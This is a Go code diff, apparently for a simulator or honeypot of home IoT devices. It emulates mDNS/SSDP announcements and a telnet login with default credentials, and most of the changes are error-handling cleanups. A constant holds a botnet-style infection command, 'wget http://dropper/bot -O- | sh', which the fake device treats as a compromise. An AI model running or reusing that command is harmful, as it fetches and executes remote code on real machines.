@@ -32,9 +32,9 @@ var open = map[plan.Kind]map[uint16]string{
 func (d *Device) serve(ctx context.Context, g *errgroup.Group) error {
 	for port, say := range open[d.Kind] {
 		err := d.listen(ctx, g, port, func(c net.Conn) {
-			c.SetDeadline(time.Now().Add(5 * time.Second))
-			c.Read(make([]byte, 512))
-			io.WriteString(c, say)
+			_ = c.SetDeadline(time.Now().Add(5 * time.Second))
+			_, _ = c.Read(make([]byte, 512))
+			_, _ = io.WriteString(c, say)
 		})
 		if err != nil {
 			return err
@@ -56,10 +56,12 @@ func (d *Device) listen(ctx context.Context, g *errgroup.Group, port uint16, ser
 		for {
 			c, err := l.Accept()
 			if err != nil {
-				if ctx.Err() != nil {
+				select {
+				case <-ctx.Done():
 					return nil
+				default:
+					return fmt.Errorf("%s: %w", d.Name, err)
 				}
-				return fmt.Errorf("%s: %w", d.Name, err)
 			}
 			go func() { // ends with the connection, whose deadline is seconds away
 				defer c.Close()
@@ -75,10 +77,10 @@ const Payload = "wget http://dropper/bot -O- | sh"
 
 // telnet is a login with the maker's default password and a shell that understands one command.
 func (d *Device) telnet(c net.Conn) {
-	c.SetDeadline(time.Now().Add(20 * time.Second))
+	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
 	in := bufio.NewReader(io.LimitReader(c, 4096))
 	ask := func(prompt string) string {
-		io.WriteString(c, prompt)
+		_, _ = io.WriteString(c, prompt)
 		line, err := in.ReadString('\n')
 		if err != nil {
 			return ""
@@ -91,7 +93,7 @@ func (d *Device) telnet(c net.Conn) {
 			return
 		}
 		if pass := ask("Password: "); user != d.plan.Attack.User || pass != d.plan.Attack.Password {
-			io.WriteString(c, "Login incorrect\r\n")
+			_, _ = io.WriteString(c, "Login incorrect\r\n")
 			continue
 		}
 		for {
@@ -99,7 +101,7 @@ func (d *Device) telnet(c net.Conn) {
 			case "":
 				return
 			case Payload:
-				io.WriteString(c, "OK\r\n")
+				_, _ = io.WriteString(c, "OK\r\n")
 				if d.infected != nil {
 					d.infected()
 				}
@@ -122,20 +124,20 @@ func announce(d *Device, ctx context.Context, r *rand.Rand) error {
 	if err != nil {
 		return fmt.Errorf("%s: mDNS: %w", d.Name, err)
 	}
-	defer mdns.Close()
+	defer func() { _ = mdns.Close() }()
 	p := ipv4.NewPacketConn(mdns)
-	p.SetMulticastTTL(255)
-	p.SetMulticastLoopback(false)
+	_ = p.SetMulticastTTL(255)
+	_ = p.SetMulticastLoopback(false)
 	for {
 		addr := d.Lease().Addr.Addr()
 		if m, err := d.records(addr).Pack(); err == nil {
-			mdns.WriteToUDPAddrPort(m, netip.MustParseAddrPort("224.0.0.251:5353")) // unheard: it is repeated
+			_, _ = mdns.WriteToUDPAddrPort(m, netip.MustParseAddrPort("224.0.0.251:5353")) // unheard: it is repeated
 		}
 		if d.Kind == plan.TV || d.Kind == plan.Hub || d.Kind == plan.NAS || d.Kind == plan.Camera {
 			note := fmt.Sprintf("NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nCACHE-CONTROL: max-age=1800\r\n"+
 				"LOCATION: http://%v:80/desc.xml\r\nNT: upnp:rootdevice\r\nNTS: ssdp:alive\r\nSERVER: Linux/4.9 UPnP/1.0 %s/1.0\r\n"+
 				"USN: uuid:%x::upnp:rootdevice\r\n\r\n", addr, d.Name, d.Seed)
-			mdns.WriteToUDPAddrPort([]byte(note), netip.MustParseAddrPort("239.255.255.250:1900"))
+			_, _ = mdns.WriteToUDPAddrPort([]byte(note), netip.MustParseAddrPort("239.255.255.250:1900"))
 		}
 		if !pause(ctx, r, 25*time.Second) {
 			return nil
